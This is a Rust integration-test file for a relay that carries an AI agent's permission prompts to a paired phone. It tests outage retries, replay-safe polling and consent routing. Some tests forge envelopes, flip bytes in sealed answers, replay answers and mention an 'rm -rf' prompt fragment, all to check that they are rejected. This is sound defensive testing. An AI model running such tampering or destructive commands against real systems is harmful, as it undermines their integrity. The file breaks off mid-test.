//! The phone path end to end: real `agentnotify relay serve`, real broker, real hook, real
//! device client — all on loopback, ephemeral ports, temp homes. A small proxy in front of
//! the Relay plays a Relay that is down, answers garbage, 401 or 500.

use std::io::{BufRead, BufReader, Read};
use std::path::PathBuf;
use std::process::{Child, Stdio};
use std::sync::atomic::{AtomicU8, Ordering};
use std::sync::Arc;
use std::time::{Duration, Instant};

use agentnotify::device::{Answer, Device};
use base64::engine::general_purpose::URL_SAFE_NO_PAD;
use base64::Engine;
use serde_json::{json, Value};

use crate::support::{assert_rate_limited, fixture, Api, Daemon, Home, AGENTNOTIFY, HOOK};

pub(crate) const ALLOW: &str = r#"{"hookSpecificOutput":{"hookEventName":"PermissionRequest","decision":{"behavior":"allow"}}}"#;
pub(crate) const DENY: &str = r#"{"hookSpecificOutput":{"hookEventName":"PermissionRequest","decision":{"behavior":"deny","message":"Denied via agentnotify"}}}"#;

/// A running `agentnotify relay serve --port 0`; killed on drop.
pub(crate) struct RelayProc {
    pub(crate) child: Child,
    pub(crate) url: String,
    args: Vec<std::ffi::OsString>,
}

impl RelayProc {
    pub(crate) fn start(home: &Home) -> RelayProc {
        RelayProc::start_with(home, &[])
    }

    /// With a rate limit no test reaches unless `extra` sets its own.
    pub(crate) fn start_with(home: &Home, extra: &[&std::ffi::OsStr]) -> RelayProc {
        let data = home.path().join("relay-data");
        let limits: &[&str] = if extra.iter().any(|a| *a == "--rate-limit") {
            &[]
        } else {
            &["--rate-limit", "100000", "--rate-burst", "100000"]
        };
        let mut args: Vec<std::ffi::OsString> = vec!["--data".into(), data.into()];
        args.extend(limits.iter().map(Into::into));
        args.extend(extra.iter().map(|a| a.to_os_string()));
        RelayProc::spawn(home, "0", args)
    }

    /// Stops the Relay and starts it again on the same port with the same data.
    pub(crate) fn restart(&mut self, home: &Home) {
        let _ = self.child.kill();
        let _ = self.child.wait();
        let port = self.url.rsplit(':').next().unwrap().to_string();
        *self = RelayProc::spawn(home, &port, std::mem::take(&mut self.args));
    }

    fn spawn(home: &Home, port: &str, args: Vec<std::ffi::OsString>) -> RelayProc {
        let mut child = home
            .cmd(AGENTNOTIFY)
            .args(["relay", "serve", "--port", port])
            .args(&args)
            .stdin(Stdio::null())
            .stdout(Stdio::piped())
            .stderr(Stdio::inherit())
            .spawn()
            .expect("start relay serve");
        let mut line = String::new();
        BufReader::new(child.stdout.take().unwrap())
            .read_line(&mut line)
            .unwrap();
        let url = line
            .split_whitespace()
            .find(|w| w.starts_with("http://") || w.starts_with("https://"))
            .unwrap_or_else(|| panic!("relay did not say where it listens: {line:?}"))
            .to_string();
        RelayProc { child, url, args }
    }
}

impl Drop for RelayProc {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

pub(crate) const PASS: u8 = 0;
pub(crate) const DOWN: u8 = 1;
const GARBAGE: u8 = 2;
const UNAUTHORIZED: u8 = 3;
pub(crate) const SERVER_ERROR: u8 = 4;
/// GETs pass, POSTs get a 500: the broker can fetch answers but not report results.
const POST_ERROR: u8 = 5;

/// A proxy in front of the Relay whose behaviour the test switches.
pub(crate) struct Proxy {
    pub(crate) url: String,
    mode: Arc<AtomicU8>,
}

impl Proxy {
    pub(crate) async fn start(upstream: &str) -> Proxy {
        let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
        let url = format!("http://{}", listener.local_addr().unwrap());
        let mode = Arc::new(AtomicU8::new(PASS));
        let upstream = upstream.to_string();
        let m = Arc::clone(&mode);
        tokio::spawn(async move {
            let http = agentnotify_relay_proto::tls::plain_http_client()
                .build()
                .unwrap();
            loop {
                let Ok((stream, _)) = listener.accept().await else {
                    continue;
                };
                if m.load(Ordering::SeqCst) == DOWN {
                    drop(stream);
                    continue;
                }
                let (m, http, upstream) = (Arc::clone(&m), http.clone(), upstream.clone());
                tokio::spawn(async move {
                    let svc = hyper::service::service_fn(move |req| {
                        let (m, http, upstream) = (Arc::clone(&m), http.clone(), upstream.clone());
                        async move {
                            // Down means down for kept-alive connections too: the
                            // connection breaks without a reply, as when the Relay dies.
                            if m.load(Ordering::SeqCst) == DOWN {
                                return Err(std::io::Error::other("relay down"));
                            }
                            Ok(forward(req, &m, &http, &upstream).await)
                        }
                    });
                    let _ = hyper::server::conn::http1::Builder::new()
                        .serve_connection(hyper_util::rt::TokioIo::new(stream), svc)
                        .await;
                });
            }
        });
        Proxy { url, mode }
    }

    pub(crate) fn set(&self, mode: u8) {
        self.mode.store(mode, Ordering::SeqCst);
    }
}

async fn forward(
    req: hyper::Request<hyper::body::Incoming>,
    mode: &AtomicU8,
    http: &reqwest::Client,
    upstream: &str,
) -> hyper::Response<http_body_util::Full<bytes::Bytes>> {
    use http_body_util::BodyExt;
    let reply = |status: u16, body: &str| {
        hyper::Response::builder()
            .status(status)
            .header("content-type", "application/json")
            .body(http_body_util::Full::new(bytes::Bytes::from(
                body.to_string(),
            )))
            .unwrap()
    };
    match mode.load(Ordering::SeqCst) {
        GARBAGE => return reply(200, "<html>surprise</html>"),
        UNAUTHORIZED => return reply(401, r#"{"error":"who are you","code":"unauthorized"}"#),
        SERVER_ERROR => return reply(500, r#"{"error":"boom","code":"internal"}"#),
        POST_ERROR if req.method() == hyper::Method::POST => {
            return reply(500, r#"{"error":"boom","code":"internal"}"#)
        }
        _ => {}
    }
    let method = reqwest::Method::from_bytes(req.method().as_str().as_bytes()).unwrap();
    let path = req
        .uri()
        .path_and_query()
        .map(|p| p.to_string())
        .unwrap_or_default();
    let mut out = http.request(method, format!("{upstream}{path}"));
    for (k, v) in req.headers() {
        if k != "host" && k != "content-length" {
            out = out.header(k.as_str(), v.as_bytes());
        }
    }
    let body = req.into_body().collect().await.unwrap().to_bytes();
    let res = out.body(body).send().await.unwrap();
    let status = res.status().as_u16();
    let bytes = res.bytes().await.unwrap();
    hyper::Response::builder()
        .status(status)
        .header("content-type", "application/json")
        .body(http_body_util::Full::new(bytes))
        .unwrap()
}

/// A home with a broker, a Relay (behind a proxy unless over TLS), a provider and one
/// paired device.
pub(crate) struct Setup {
    pub(crate) home: Home,
    pub(crate) relay: RelayProc,
    pub(crate) proxy: Option<Proxy>,
    pub(crate) _daemon: Daemon,
    pub(crate) api: Api,
    pub(crate) device_dir: PathBuf,
}

impl Setup {
    /// `poll_interval`: seconds between background polls (large = poll only by hand).
    pub(crate) async fn new(poll_interval: u64) -> Setup {
        Setup::new_with(poll_interval, &[]).await
    }

    /// With extra `relay serve` arguments.
    pub(crate) async fn new_with(poll_interval: u64, extra: &[&std::ffi::OsStr]) -> Setup {
        let home = Home::new();
        let relay = RelayProc::start_with(&home, extra);
        let proxy = Proxy::start(&relay.url).await;
        let url = proxy.url.clone();
        Setup::finish(home, relay, Some(proxy), &url, poll_interval)
    }

    /// The Relay serves HTTPS with a certificate from `tls`'s private CA, which `home`
    /// trusts through `SSL_CERT_FILE`; broker and device talk to it directly.
    fn over_tls(home: Home, tls: &TestCa) -> Setup {
        let relay = RelayProc::start_with(&home, &tls.serve_args());
        let url = relay.url.clone();
        Setup::finish(home, relay, None, &url, 1)
    }

    fn finish(
        home: Home,
        relay: RelayProc,
        proxy: Option<Proxy>,
        url: &str,
        poll_interval: u64,
    ) -> Setup {
        let device_dir = register(&home, url, poll_interval);
        let daemon = Daemon::start(&home, &[]);
        let api = daemon.api(&home);
        Setup {
            home,
            relay,
            proxy,
            _daemon: daemon,
            api,
            device_dir,
        }
    }

    pub(crate) fn proxy(&self) -> &Proxy {
        self.proxy.as_ref().expect("this setup has a proxy")
    }

    pub(crate) fn device(&self, args: &[&str]) -> (i32, String, String) {
        let mut all = vec!["relay", "device"];
        all.extend_from_slice(args);
        all.extend_from_slice(&["--device-dir", self.device_dir.to_str().unwrap()]);
        run(&self.home, &all)
    }

    /// Waits (bounded) until the device's inbox shows question `id`; returns it.
    pub(crate) fn inbox_shows(&self, id: &str) -> Value {
        let deadline = Instant::now() + Duration::from_secs(20);
        loop {
            let (code, out, err) = self.device(&["inbox", "--json"]);
            assert_eq!(code, 0, "inbox failed: {err}");
            let v: Value = serde_json::from_str(&out).unwrap();
            if let Some(q) = v["questions"]
                .as_array()
                .unwrap()
                .iter()
                .find(|q| q["id"] == id)
            {
                assert!(q.get("nonce").is_none(), "the inbox never prints the nonce");
                return q.clone();
            }
            assert!(
                Instant::now() < deadline,
                "question {id} never reached the device: {v}"
            );
            std::thread::sleep(Duration::from_millis(50));
        }
    }

    pub(crate) fn phone(&self) -> Device {
        Device::load(&self.device_dir).unwrap()
    }

    fn cursor_file(&self) -> Option<String> {
        std::fs::read_to_string(self.home.path().join("relay_response_cursors.json")).ok()
    }

    pub(crate) fn poll(&self) -> (i32, Value) {
        let (code, out, err) = run(&self.home, &["interactions", "poll-responses", "--json"]);
        (
            code,
            serde_json::from_str(&out).unwrap_or_else(|_| json!({"stderr": err})),
        )
    }

    pub(crate) async fn status(&self, id: &str) -> Value {
        self.api.get(&format!("/v1/interactions/{id}")).await.1
    }
}

/// Adds provider `home` at `url` with a consenting route, and pairs a device in `phone/`.
pub(crate) fn register(home: &Home, url: &str, poll_interval: u64) -> PathBuf {
    // 3600 means "poll only by hand": no background long-poll either.
    let long_poll = poll_interval < 3600;
    home.write_config(&format!(
        "[relay]\npoll_interval_seconds = {poll_interval}\nlong_poll = {long_poll}\n"
    ));
    let out = run(
        home,
        &["relay", "add", "home", "--url", url, "--include-message"],
    );
    assert!(out.0 == 0, "relay add failed: {out:?}");
    let device_dir = home.path().join("phone");
    let out = pair_device(home, &new_code(home), &device_dir, "cli-device");
    assert!(out.0 == 0, "device register failed: {out:?}");
    device_dir
}

/// A fresh single-use pairing code for provider `home` (the first line `relay pair` prints).
pub(crate) fn new_code(home: &Home) -> String {
    let (code, out, err) = run(home, &["relay", "pair", "home"]);
    assert_eq!(code, 0, "relay pair failed: {out} {err}");
    out.lines().next().unwrap().trim().to_string()
}

/// `relay device register` with `code` into `dir`.
pub(crate) fn pair_device(
    home: &Home,
    code: &str,
    dir: &std::path::Path,
    name: &str,
) -> (i32, String, String) {
    run(
        home,
        &[
            "relay",
            "device",
            "register",
            "--code",
            code,
            "--name",
            name,
            "--device-dir",
            dir.to_str().unwrap(),
        ],
    )
}

pub(crate) fn run(home: &Home, args: &[&str]) -> (i32, String, String) {
    let out = home
        .cmd(AGENTNOTIFY)
        .args(args)
        .stdin(Stdio::null())
        .output()
        .unwrap();
    (
        out.status.code().unwrap_or(-1),
        String::from_utf8_lossy(&out.stdout).into_owned(),
        String::from_utf8_lossy(&out.stderr).into_owned(),
    )
}

pub(crate) fn start_hook(home: &Home, payload: &str) -> Child {
    let mut child = home
        .cmd(HOOK)
        .args(["claude", "ask-permission"])
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::null())
        .spawn()
        .unwrap();
    use std::io::Write;
    child
        .stdin
        .take()
        .unwrap()
        .write_all(payload.as_bytes())
        .unwrap();
    child
}

pub(crate) fn finish_hook(mut child: Child) -> String {
    let mut out = String::new();
    child
        .stdout
        .take()
        .unwrap()
        .read_to_string(&mut out)
        .unwrap();
    assert_eq!(child.wait().unwrap().code(), Some(0));
    out
}

pub(crate) async fn pending_one(api: &Api) -> Value {
    api.pending_where("the hook's question", |_| true).await
}

/// Runs `relay device answer ARGS --timeout 20` while polling by hand until it finishes.
pub(crate) async fn answer_while_polling(s: &Setup, args: &[&str]) -> (i32, String, String) {
    let mut cmd = s.home.cmd(AGENTNOTIFY);
    cmd.args(["relay", "device", "answer"])
        .args(args)
        .args(["--timeout", "20", "--device-dir"])
        .arg(&s.device_dir)
        .stdin(Stdio::null());
    let h = tokio::task::spawn_blocking(move || {
        let out = cmd.output().unwrap();
        (
            out.status.code().unwrap_or(-1),
            String::from_utf8_lossy(&out.stdout).into_owned(),
            String::from_utf8_lossy(&out.stderr).into_owned(),
        )
    });
    let deadline = Instant::now() + Duration::from_secs(30);
    while !h.is_finished() {
        assert!(Instant::now() < deadline, "device answer never finished");
        s.poll();
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    h.await.unwrap()
}

pub(crate) async fn wait_status(s: &Setup, id: &str, status: &str) -> Value {
    let deadline = Instant::now() + Duration::from_secs(20);
    loop {
        let v = s.status(id).await;
        if v["status"] == status {
            return v;
        }
        assert!(Instant::now() < deadline, "{id} never became {status}: {v}");
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn relay_hook_to_phone_and_back_allow_and_deny() {
    let s = Setup::new(1).await;
    for (choice, expected) in [("allow-once", ALLOW), ("deny", DENY)] {
        let hook = start_hook(&s.home, &fixture("claude-bash.json"));
        let q = pending_one(&s.api).await;
        let id = q["id"].as_str().unwrap();
        let shown = s.inbox_shows(id);
        assert_eq!(shown["prompt"], q["prompt"]);
        assert_eq!(shown["kind"], "permission");
        let (code, out, err) = s.device(&["answer", id, "--choice", choice, "--json"]);
        assert_eq!(code, 0, "device answer failed: {out} {err}");
        assert_eq!(
            serde_json::from_str::<Value>(&out).unwrap()["status"],
            "accepted"
        );
        assert_eq!(finish_hook(hook).trim(), expected);
        let record = s.status(id).await;
        assert_eq!(record["response"]["source"], "relay");
        assert_eq!(record["response"]["choice_id"], choice);
        // Answered questions leave the phone's inbox.
        let (_, out, _) = s.device(&["inbox", "--json"]);
        assert!(
            !out.contains(id),
            "answered question still in the inbox: {out}"
        );
    }
    // Logs never carry prompts, digests, nonces or tokens.
    let logs = s.home.logs();
    assert!(!logs.contains("rm -rf"), "a prompt reached the logs");
    let secrets: Value = serde_json::from_str(
        &std::fs::read_to_string(s.home.path().join("relay_secrets.json")).unwrap(),
    )
    .unwrap();
    assert!(!logs.contains(secrets["home"]["installation_token"].as_str().unwrap()));
    for f in [
        "relay_secrets.json",
        "relay_installation.key",
        "relay_installation_signing.key",
        "relay_devices.json",
        "phone/device.json",
    ] {
        use std::os::unix::fs::PermissionsExt;
        let mode = std::fs::metadata(s.home.path().join(f))
            .unwrap()
            .permissions()
            .mode();
        assert_eq!(mode & 0o777, 0o600, "{f}");
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn relay_single_choice_and_text_answers() {
    let s = Setup::new(1).await;
    let hook = start_hook(&s.home, &fixture("claude-askuserquestion.json"));
    let q = pending_one(&s.api).await;
    let id = q["id"].as_str().unwrap().to_string();
    let shown = s.inbox_shows(&id);
    assert_eq!(shown["kind"], "single_choice");
    let choice = shown["choices"][1]["id"].as_str().unwrap().to_string();
    let (code, _, err) = s.device(&["answer", &id, "--choice", &choice]);
    assert_eq!(code, 0, "{err}");
    let out: Value = serde_json::from_str(finish_hook(hook).trim()).unwrap();
    let decision = &out["hookSpecificOutput"]["decision"];
    assert_eq!(decision["behavior"], "allow");
    assert_eq!(
        decision["updatedInput"]["answers"]["Which database should the cart service use?"],
        shown["choices"][1]["label"]
    );

    let t = s
        .api
        .ask(json!({"kind": "text", "prompt": "Name the release branch", "agent": "codex", "project": "shop"}))
        .await;
    let tid = t["id"].as_str().unwrap();
    s.inbox_shows(tid);
    let (code, _, err) = s.device(&["answer", tid, "--text", "release/2.0"]);
    assert_eq!(code, 0, "{err}");
    let (_, done) = s
        .api
        .get(&format!("/v1/interactions/{tid}/wait?timeout=20"))
        .await;
    assert_eq!(done["status"], "answered");
    assert_eq!(done["response"]["text"], "release/2.0");
    assert_eq!(done["response"]["source"], "relay");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn relay_down_during_publish_is_retried_and_delivered_once() {
    let s = Setup::new(3600).await;
    s.proxy().set(DOWN);
    let q = s
        .api
        .ask_permission("Publish while the relay is down?")
        .await;
    let id = q["id"].as_str().unwrap();
    // The dispatcher tried, failed, and kept the entry for later.
    let deadline = Instant::now() + Duration::from_secs(20);
    loop {
        let (_, st) = s.api.get("/v1/relay/status").await;
        let entry = st["outbox"]
            .as_array()
            .unwrap()
            .iter()
            .find(|e| e["subject_id"] == id)
            .cloned();
        if let Some(e) = entry {
            // Attempts count tries started; the error is there once one has failed.
            if e["attempts"].as_u64().unwrap() >= 1 && e["last_error"].is_string() {
                assert_eq!(e["id"], format!("deliver:interaction:{id}:home"));
                assert!(e["last_error"].as_str().unwrap().contains("did not answer"));
                break;
            }
        }
        assert!(
            Instant::now() < deadline,
            "no failed attempt recorded: {st}"
        );
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    s.proxy().set(PASS);
    s.inbox_shows(id);
    // The entry goes once the Relay confirmed (a moment after the phone can see it).
    let deadline = Instant::now() + Duration::from_secs(20);
    loop {
        let (_, st) = s.api.get("/v1/relay/status").await;
        if st["outbox"].as_array().unwrap().is_empty() {
            break;
        }
        assert!(Instant::now() < deadline, "the outbox never drained: {st}");
        tokio::time::sleep(Duration::from_millis(20)).await;
    }
    let (_, out, _) = s.device(&["inbox", "--json"]);
    let v: Value = serde_json::from_str(&out).unwrap();
    assert_eq!(
        v["questions"]
            .as_array()
            .unwrap()
            .iter()
            .filter(|q| q["id"] == id)
            .count(),
        1
    );

    // Re-publishing by hand is idempotent: still one copy on the phone.
    let (code, v) = s
        .api
        .post(&format!("/v1/interactions/{id}/publish"), json!({}))
        .await;
    assert_eq!((code, v["published"].clone()), (200, json!(1)));
    let (code, out, _) = run(&s.home, &["interactions", "publish", id]);
    assert_eq!(code, 0, "{out}");
    // Both re-publishes went through the dispatcher: the outbox is empty again.
    let deadline = Instant::now() + Duration::from_secs(20);
    loop {
        let (_, st) = s.api.get("/v1/relay/status").await;
        if st["outbox"].as_array().unwrap().is_empty() {
            break;
        }
        assert!(Instant::now() < deadline, "the outbox never drained: {st}");
        tokio::time::sleep(Duration::from_millis(20)).await;
    }
    let (_, out, _) = s.device(&["inbox", "--json"]);
    let v: Value = serde_json::from_str(&out).unwrap();
    assert_eq!(
        v["questions"]
            .as_array()
            .unwrap()
            .iter()
            .filter(|q| q["id"] == id)
            .count(),
        1
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn relay_poll_failures_keep_the_cursor_and_apply_once_later() {
    let s = Setup::new(3600).await;
    let q = s.api.ask_permission("Poll through failures?").await;
    let id = q["id"].as_str().unwrap();
    s.inbox_shows(id);
    let (code, _, err) = s.device(&["answer", id, "--choice", "allow-once", "--timeout", "0"]);
    assert_eq!(code, 0, "{err}");
    let before = s.cursor_file();
    for mode in [GARBAGE, UNAUTHORIZED, SERVER_ERROR] {
        s.proxy().set(mode);
        let (code, v) = s.poll();
        assert_eq!(code, 1, "a failed poll exits 1: {v}");
        assert_eq!(s.cursor_file(), before, "cursor moved on a failed poll");
        assert_eq!(s.status(id).await["status"], "pending");
    }
    s.proxy().set(PASS);
    let (code, v) = s.poll();
    assert_eq!(code, 0, "{v}");
    assert_eq!(v["polls"][0]["accepted"], 1);
    assert_eq!(v["polls"][0]["cursor_advanced"], true);
    assert_ne!(s.cursor_file(), before);
    let record = s.status(id).await;
    assert_eq!(record["status"], "answered");
    assert_eq!(record["response"]["source"], "relay");
    // The next poll sees nothing new; nothing is applied twice.
    let (_, v) = s.poll();
    assert_eq!(v["polls"][0]["fetched"], 0);
    assert_eq!(s.status(id).await["updated_at"], record["updated_at"]);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn relay_results_fail_then_the_batch_is_replayed_exactly_once() {
    // The answer reaches the broker but reporting back fails: the cursor stays, and the
    // same batch is applied again as a replay (same response_id), not as a second answer.
    let s = Setup::new(3600).await;
    let q = s.api.ask_permission("Replay the batch?").await;
    let id = q["id"].as_str().unwrap();
    s.inbox_shows(id);
    let phone = s.phone();
    let question = phone.question(id).await.unwrap();
    let post = phone.seal(
        &phone.payload(&question, "r-once", &Answer::Choice("deny".into())),
        &question.expires_at,
    );
    phone.send(&post).await.unwrap();
    let before = s.cursor_file();
    s.proxy().set(POST_ERROR);
    let (code, v) = s.poll();
    assert_eq!(code, 1, "reporting failed, so the poll failed: {v}");
    assert_eq!(
        s.cursor_file(),
        before,
        "cursor moved although results were not reported"
    );
    let answered = s.status(id).await;
    assert_eq!(answered["status"], "answered");
    s.proxy().set(PASS);
    let (code, v) = s.poll();
    assert_eq!(
        (code, v["polls"][0]["accepted"].clone()),
        (0, json!(1)),
        "{v}"
    );
    assert_ne!(s.cursor_file(), before);
    assert_eq!(
        s.status(id).await,
        answered,
        "the replayed batch changed nothing"
    );
    assert_eq!(
        phone
            .verdict("r-once", id, Duration::from_secs(5))
            .await
            .unwrap()
            .status,
        "accepted"
    );
    // Replaying the same sealed answer at the relay is refused as a duplicate.
    match phone.send(&post).await {
        Err(agentnotify::device::DeviceError::Refused { code, .. }) => {
            assert_eq!(code, "duplicate_response")
        }
        other => panic!("replay accepted: {other:?}"),
    }
    assert_eq!(s.status(id).await, answered);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn relay_refusals_advance_the_cursor_and_reach_the_device() {
    let s = Setup::new(3600).await;
    let phone = s.phone();
    let q = s.api.ask_permission("Refuse the bad ones?").await;
    let id = q["id"].as_str().unwrap();
    s.inbox_shows(id);
    let question = phone.question(id).await.unwrap();
    let mut stale = phone.payload(&question, "r-stale", &Answer::Choice("allow-once".into()));
    stale.request_digest = "0".repeat(64);
    let mut wrong_nonce = phone.payload(&question, "r-nonce", &Answer::Choice("allow-once".into()));
    wrong_nonce.nonce = "A".repeat(32);
    let bogus = phone.payload(&question, "r-bogus", &Answer::Choice("bogus".into()));
    for p in [&stale, &wrong_nonce, &bogus] {
        phone
            .send(&phone.seal(p, &question.expires_at))
            .await
            .unwrap();
    }
    // Wrong installation: the relay refuses it outright, with the reason.
    let mut other = phone.payload(&question, "r-other", &Answer::Choice("allow-once".into()));
    other.installation_id = "f".repeat(32);
    let mut post = phone.seal(&other, &question.expires_at);
    post.installation_id = other.installation_id.clone();
    match phone.send(&post).await {
        Err(agentnotify::device::DeviceError::Refused { code, .. }) => {
            assert_eq!(code, "wrong_installation")
        }
        other => panic!("wrong installation accepted: {other:?}"),
    }

    let (code, v) = s.poll();
    assert_eq!(code, 0, "{v}");
    assert_eq!(v["polls"][0]["refused"], 3, "{v}");
    assert_eq!(v["polls"][0]["cursor_advanced"], true);
    assert_eq!(
        s.status(id).await["status"],
        "pending",
        "no refused answer applied"
    );
    for (rid, why) in [
        ("r-stale", "digest_mismatch"),
        ("r-nonce", "nonce_mismatch"),
        ("r-bogus", "invalid_answer"),
    ] {
        match phone.verdict(rid, id, Duration::from_secs(5)).await {
            Err(agentnotify::device::DeviceError::Refused { code, .. }) => {
                assert_eq!(code, why)
            }
            other => panic!("{rid}: {other:?}"),
        }
    }
    // The device CLI waits for the verdict and shows the reason, exiting 1.
    let (code, _, err) = answer_while_polling(&s, &[id, "--choice", "nope"]).await;
    assert_eq!(code, 1);
    assert!(
        err.contains("invalid_answer")
            && err.contains("choice_id is not one of the offered choices"),
        "{err}"
    );

    // A good answer is accepted; a second one (new response_id) is refused as already answered.
    let (code, out, err) = answer_while_polling(&s, &[id, "--choice", "deny"]).await;
    assert_eq!(code, 0, "{out} {err}");
    assert_eq!(s.status(id).await["response"]["choice_id"], "deny");
    let late = phone.payload(&question, "r-late", &Answer::Choice("allow-once".into()));
    match phone.send(&phone.seal(&late, &question.expires_at)).await {
        Err(agentnotify::device::DeviceError::Refused { code, .. }) => {
            assert_eq!(code, "already_answered")
        }
        other => panic!("second answer accepted: {other:?}"),
    }
    let (code, _, err) = s.device(&["answer", id, "--choice", "allow-once"]);
    assert_eq!(code, 1);
    assert!(err.contains("not in this device's inbox"), "{err}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn relay_tampered_boxes_are_rejected_at_every_position() {
    let s = Setup::new(3600).await;
    let phone = s.phone();
    let q = s.api.ask_permission("Tamper with me?").await;
    let id = q["id"].as_str().unwrap();
    s.inbox_shows(id);

    // Questions: a flipped byte anywhere in the stored box and the phone will not open it.
    let envelope = phone
        .client()
        .envelopes()
        .await
        .unwrap()
        .into_iter()
        .find(|e| e.event_id == format!("interaction:{id}"))
        .unwrap();
    assert!(phone.open(&envelope).is_ok());
    let raw = URL_SAFE_NO_PAD.decode(&envelope.sealed).unwrap();
    for pos in 0..raw.len() {
        let mut bad = raw.clone();
        bad[pos] ^= 0x01 << (pos % 8);
        let mut e = envelope.clone();
        e.sealed = URL_SAFE_NO_PAD.encode(&bad);
        assert!(
            phone.open(&e).is_err(),
            "flipped byte {pos} of {} opened",
            raw.len()
        );
    }
    let mut moved = envelope.clone();
    moved.expires_at = "2099-01-01T00:00:00.000Z".into();
    assert!(
        phone.open(&moved).is_err(),
        "a box moved to another expiry opened"
    );

    // A tampered envelope the Relay (here: anyone with the installation token) stores is
    // never shown (its signature no longer covers it); the genuine question stays readable.
    let secrets: Value = serde_json::from_str(
        &std::fs::read_to_string(s.home.path().join("relay_secrets.json")).unwrap(),
    )
    .unwrap();
    let inst = agentnotify_relay_proto::client::RelayClient::new(
        &s.relay.url,
        Some(agentnotify::secret::Secret::new(
            secrets["home"]["installation_token"].as_str().unwrap(),
        )),
    );
    let mut forged = envelope.clone();
    forged.event_id = "interaction:ffffffffffffffffffffffffffffffff".into();
    inst.put_envelope(&forged).await.unwrap();
    let (_, out, _) = s.device(&["inbox", "--json"]);
    let v: Value = serde_json::from_str(&out).unwrap();
    assert_eq!(v["forged"], 1, "{v}");
    assert_eq!(v["questions"].as_array().unwrap().len(), 1);

    // Answers: flip one byte per copy, at spread-out positions; every copy is refused.
    let question = phone.question(id).await.unwrap();
    let probe = phone.seal(
        &phone.payload(&question, "t-probe", &Answer::Choice("allow-once".into())),
        &question.expires_at,
    );
    let len = URL_SAFE_NO_PAD
        .decode(probe.sealed.as_ref().unwrap())
        .unwrap()
        .len();
    let positions: Vec<usize> = (0..len)
        .step_by((len / 40).max(1))
        .chain([len - 1])
        .collect();
    for (n, pos) in positions.iter().enumerate() {
        let rid = format!("t-{n:03}");
        let mut post = phone.seal(
            &phone.payload(&question, &rid, &Answer::Choice("allow-once".into())),
            &question.expires_at,
        );
        let mut raw = URL_SAFE_NO_PAD
            .decode(post.sealed.as_ref().unwrap())
            .unwrap();
        let pos = *pos % raw.len();
        raw[pos] ^= 0x80;
        post.sealed = Some(URL_SAFE_NO_PAD.encode(&raw));
        phone.send(&post).await.unwrap();
    }
    let (code, v) = s.poll();
    assert_eq!(code, 0, "{v}");
    assert_eq!(
        v["polls"][0]["refused"].as_u64().unwrap() as usize,
        positions.len(),
        "{v}"
    );
    assert_eq!(s.status(id).await["status"], "pending");
    match phone.verdict("t-000", id, Duration::from_secs(5)).await {
        Err(agentnotify::device::DeviceError::Refused { code, .. }) => {
            assert_eq!(code, "unsealable")
        }
        other => panic!("{other:?}"),
    }
    // And the untouched answer still goes through.
    let good = phone.seal(
        &phone.payload(&question, "t-good", &Answer::Choice("deny".into())),
        &question.expires_at,
    );
    phone.send(&good).await.unwrap();
    let (_, v) = s.poll();
    assert_eq!(v["polls"][0]["accepted"], 1, "{v}");
    wait_status(&s, id, "answered").await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn relay_unavailable_without_a_consenting_route() {
    let home = Home::new();
    let daemon = Daemon::start(&home, &[]);
    let api = daemon.api(&home);
    let q = api.ask_permission("Nowhere to send?").await;
    let id = q["id"].as_str().unwrap();
    let (code, v) = api
        .post(&format!("/v1/interactions/{id}/publish"), json!({}))
        .await;
    assert_eq!((code, v["code"].as_str()), (400, Some("relay_unavailable")));
    let (code, v) = api
        .post(
            "/v1/interactions/0123456789abcdef0123456789abcdef/publish",
            json!({}),
        )
        .await;
    assert_eq!((code, v["code"].as_str()), (404, Some("not_found")), "{v}");
    let (code, _, err) = run(&home, &["interactions", "poll-responses"]);
    assert_eq!(code, 1);
    assert!(err.contains("relay_unavailable"), "{err}");

    // A provider whose route lacks include_message still publishes nothing.
    let relay = RelayProc::start(&home);
    let out = run(&home, &["relay", "add", "home", "--url", &relay.url]);
    assert_eq!(out.0, 0, "{out:?}");
    assert!(out.1.contains("--include-message"), "{out:?}");
    let (code, v) = api
        .post(&format!("/v1/interactions/{id}/publish"), json!({}))
        .await;
    assert_eq!((code, v["code"].as_str()), (400, Some("relay_unavailable")));
    // Enabling consent on a route makes it publish; a filter that does not match sends nothing.
    let out = run(
        &home,
        &[
            "relay",
            "route",
            "add",
            "home",
            "--include-message",
            "--agent",
            "claude",
        ],
    );
    assert_eq!(out.0, 0, "{out:?}");
    let (code, v) = api
        .post(&format!("/v1/interactions/{id}/publish"), json!({}))
        .await;
    assert_eq!((code, v["published"].clone()), (200, json!(0)), "{v}");
    let out = run(
        &home,
        &[
            "relay",
            "route",
            "add",
            "home",
            "--include-message",
            "--agent",
            "codex",
            "--type",
            "permission_required",
            "--min-priority",
            "high",
        ],
    );
    assert_eq!(out.0, 0, "{out:?}");
    let (code, v) = api
        .post(&format!("/v1/interactions/{id}/publish"), json!({}))
        .await;
    assert_eq!((code, v["published"].clone()), (200, json!(1)), "{v}");
    let (_, list, _) = run(&home, &["relay", "list"]);
    assert!(
        list.contains("3. home") && list.contains("agent=codex"),
        "{list}"
    );
    assert_eq!(run(&home, &["relay", "disable", "home"]).0, 0);
    let (code, _) = api
        .post(&format!("/v1/interactions/{id}/publish"), json!({}))
        .await;
    assert_eq!(code, 400);
    assert_eq!(run(&home, &["relay", "enable", "home"]).0, 0);
    assert_eq!(run(&home, &["relay", "route", "disable", "3"]).0, 0);
    let (code, _) = api
        .post(&format!("/v1/interactions/{id}/publish"), json!({}))
        .await;
    assert_eq!(code, 200);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn relay_server_http_contract() {
    let home = Home::new();
    let relay = RelayProc::start(&home);
    // No pooled connections: a server closes the connection after refusing a body it did
